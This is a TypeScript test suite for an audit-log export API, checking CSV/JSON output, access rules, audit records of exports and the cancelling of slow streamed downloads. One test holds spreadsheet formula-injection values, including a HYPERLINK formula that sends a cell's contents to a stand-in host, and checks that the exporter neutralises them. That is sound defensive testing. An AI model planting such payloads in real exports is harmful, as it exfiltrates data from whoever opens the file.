import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { request, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterEach, beforeEach, test } from 'node:test'
import type { AuditRow } from '@oncekey/protocol/schemas'
import { COOKIE } from '../sessions/cookies.ts'
import { openWorld, type TestPerson, type World } from '../testing/world.ts'

let world: World
beforeEach(async () => { world = await openWorld() })
afterEach(async () => { await world.close() })

const get = async (who: TestPerson, url: string, method: 'GET' | 'HEAD' = 'GET') => world.house.app.inject({ method, url: `/api/v1/audit/export/rows?${url}`, headers: { cookie: `${COOKIE}=${who.cookie}` } })

/** RFC 4180, read by other eyes than those that wrote it. */
function readCsv (text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (let i = 0; i < text.length; i++) {
    const sign = text[i]
    if (isQuoted && sign === '"' && text[i + 1] === '"') cell += text[++i]
    else if (sign === '"') isQuoted = !isQuoted
    else if (!isQuoted && (sign === ',' || (sign === '\r' && text[i + 1] === '\n'))) {
      rows.at(-1)?.push(cell)
      cell = ''
      if (sign === '\r') {
        rows.push([])
        i++
      }
    } else cell += sign
  }
  rows.pop()
  return rows
}

test('what a search finds comes as CSV and as JSON, the oldest first, says that it proves nothing, and is noted', async () => {
  const { house, people, points } = world
  for (const point of [points.a01, points.a02, points.a01]) {
    await world.code(people.maya, point)
    house.wait(60_000)
  }
  const wanted = (await world.record()).filter((row) => row.accessPoint?.id === points.a01)
  const csv = await get(people.otto, `format=csv&accessPointId=${points.a01}`)
  assert.equal(csv.statusCode, 200, csv.body)
  assert.match(String(csv.headers['content-type']), /^text\/csv/)
  assert.match(String(csv.headers['content-disposition']), /filename="oncekey-found-2026-01-05.csv"/)
  assert.ok(csv.body.startsWith('\u{feff}row,time,event,'))
  const [, ...lines] = readCsv(csv.body)
  const end = lines.pop()
  assert.deepEqual(lines.map(([seq, time, event, , , , , , name]) => [Number(seq), Date.parse(time ?? ''), event, name]), wanted.map((row) => [row.seq, row.time, row.event, row.accessPoint?.name]))
  assert.equal(end?.[0], 'end')
  assert.match(end?.at(-1) ?? '', new RegExp(`^${wanted.length} rows\\. .*proves nothing`))
  assert.deepEqual([...new Set([...lines, end].map((one) => one?.length))], [14], 'as many cells in each line')

  const json = await get(people.otto, `format=json&accessPointId=${points.a01}&event=code.issued`)
  const file: { asked: object, note: string, rows: AuditRow[], count: number } = JSON.parse(json.body)
  const issued = wanted.filter((row) => row.event === 'code.issued')
  assert.deepEqual(file.rows.map(({ seq, subject, accessPoint, details }) => ({ seq, subject, accessPoint, details })), issued.map(({ seq, subject, accessPoint, details }) => ({ seq, subject, accessPoint, details })))
  assert.deepEqual([file.count, file.asked], [issued.length, { accessPointId: points.a01, event: 'code.issued' }])
  assert.match(file.note, /neither that no row is missing/)
  assert.deepEqual((await world.record('audit.rowsExported')).map(({ actor, severity, details }) => [actor?.name, severity, details]), [
    ['Otto', 'notice', { format: 'csv', accessPointId: points.a01 }], ['Otto', 'notice', { format: 'json', accessPointId: points.a01, event: 'code.issued' }]
  ])
  const none: { rows: AuditRow[] } = JSON.parse((await get(people.otto, 'format=json&text=481516')).body)
  assert.deepEqual(none.rows, [])
  assert.deepEqual((await world.record('audit.rowsExported')).at(-1)?.details, { format: 'json' }, 'digits that were typed into the wrong field are not written down')
  assert.equal((await get(people.maya, 'format=csv')).statusCode, 403)
  assert.equal((await get(people.otto, 'format=xls')).statusCode, 400)
  assert.equal((await get(people.otto, 'format=csv', 'HEAD')).statusCode, 200)
  assert.equal((await world.record('audit.rowsExported')).length, 3, 'asking whether it may be had is not having it')
  house.wait(1_000_000)
  const stale = await get(people.otto, 'format=csv')
  assert.deepEqual([stale.statusCode, stale.json().code], [403, 'proofNeeded'], 'whoever sits down at an open page takes nothing home')
})

test('no name becomes a formula in a spreadsheet', async () => {
  const { house, people } = world
  const names = ['=HYPERLINK("http://x.example/"&A1)', '+1', '-1', '@SUM(1)', '\t=1', ' =1', '\r=1', '＝1', '＋1', '－1', '＠1', 'Ann "A", Lee', "O'Neil", 'two\nlines', 'semi;colon', 'plain']
  await house.db.write(async (trx) => { for (const name of names) house.audit.append(trx, house.clock(), { event: 'person.changed', subject: { id: people.maya.id, name } }) })
  const rows = readCsv((await get(people.otto, `format=csv&personId=${people.maya.id}&event=person.changed`)).body).slice(1, -1)
  const got = rows.map((row) => row[6] ?? '')
  assert.deepEqual(got, names.map((name) => /^\s*[=+\-@＝＋－＠]/.test(name) ? `'${name}` : name))
  for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/)
})

/** Rows by the thousand, and a file of them that is taken slowly by a browser. */
async function slowly (ticket: string): Promise<{ answer: IncomingMessage, ended: Promise<'whole' | 'cut'> }> {
  const { house, people } = world
  await house.db.write(async (trx) => { for (let i = 0; i < 6_000; i++) house.audit.append(trx, house.clock(), { event: 'door.changed', details: { filler: 'x'.repeat(900) } }) })
  await house.app.listen({ host: '127.0.0.1', port: 0 })
  const { port } = house.app.server.address() as AddressInfo
  const answer = await new Promise<IncomingMessage>((resolve, reject) => {
    request({ host: '127.0.0.1', port, path: `/api/v1/audit/export/rows?format=csv&event=door.changed&ticket=${ticket}`, headers: { cookie: `${COOKIE}=${people.otto.cookie}` } }, resolve).on('error', reject).end()
  })
  assert.equal(answer.statusCode, 200)
  return { answer, ended: new Promise((resolve) => { answer.once('end', () => resolve('whole')).once('error', () => resolve('cut')) }) }
}

test('a page sees how far its file is and cuts it off; what came is seen to be a part', async () => {
  const { people } = world
  const ticket = randomUUID()
  const { answer, ended } = await slowly(ticket)
  const own = async (who: TestPerson) => (await world.call(who, 'GET', 'audit/exports')).body.exports
  const [far] = await own(people.otto)
  assert.ok(far !== undefined && far.ticket === ticket && far.ended === null && far.share < 1)
  assert.deepEqual(await own(people.olga), [], 'somebody else\'s is not theirs')
  assert.equal((await world.call(people.olga, 'DELETE', `audit/exports/${ticket}`)).status, 404)
  assert.equal((await world.call(people.otto, 'DELETE', `audit/exports/${ticket}`)).status, 204)
  let text = ''
  answer.setEncoding('utf8').on('data', (chunk: string) => { text += chunk })
  assert.equal(await ended, 'cut')
  assert.ok(!text.includes('\r\nend,'))
  while ((await own(people.otto))[0]?.ended === null) await sleep(5)
  assert.equal((await own(people.otto))[0]?.ended, 'cut')
  assert.equal((await world.call(people.otto, 'DELETE', `audit/exports/${ticket}`)).status, 404)
  assert.equal((await get(people.otto, `format=csv&ticket=${ticket}`)).statusCode, 400, 'a name is used once')
})

test('a file that is taken to its end is whole', async () => {
  const ticket = randomUUID()
  const { answer, ended } = await slowly(ticket)
  let text = ''
  answer.setEncoding('utf8').on('data', (chunk: string) => { text += chunk })
  assert.equal(await ended, 'whole')
  assert.match(text, /\r\nend,[^\n]*6000 rows/)
  const [one] = (await world.call(world.people.otto, 'GET', 'audit/exports')).body.exports
  assert.deepEqual([one?.rows, one?.ended], [6_000, 'whole'])
})
